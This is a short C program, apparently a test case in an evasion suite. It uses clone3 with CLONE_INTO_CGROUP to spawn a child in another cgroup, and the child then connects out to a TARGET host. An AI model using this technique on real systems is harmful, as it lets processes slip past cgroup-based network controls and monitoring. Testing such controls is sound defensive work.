/* Clone3(2) into another cgroup. */
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <sys/syscall.h>

#include "evasion.h"

int main(void)
{
	int cgroup = open("/sys/fs/cgroup/unified", O_RDONLY | O_DIRECTORY);

	if (cgroup < 0)
		cgroup = CHECK(open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY));
	struct clone_args arguments = {.flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD, .cgroup = (unsigned)cgroup};
	pid_t child = CHECK((pid_t)syscall(SYS_clone3, &arguments, sizeof(arguments)));

	if (child == 0)
		tell(connect_to(open_socket(AF_INET, SOCK_STREAM, 0), TARGET));
	CHECK(waitpid(child, NULL, 0));
	return 0;
}
